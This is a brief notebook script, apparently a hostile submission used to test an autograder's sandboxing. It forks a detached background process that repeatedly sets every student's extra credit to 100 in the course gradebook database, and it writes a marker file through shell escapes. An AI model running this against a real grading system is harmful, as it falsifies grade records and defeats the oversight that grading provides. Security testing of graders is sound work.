"""Starts a process from a cell that waits for the grading to end and then adds extra credit."""
# %%
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(0.2)
        try:
            db = sqlite3.connect("@COURSE@/gradebook.db")
            db.execute("update grade set extra_credit = 100")
            db.commit()
        except sqlite3.Error:
            pass
# %%
!echo hostile-was-here > @COURSE@/hostile-was-here
%system touch @COURSE@/hostile-was-here
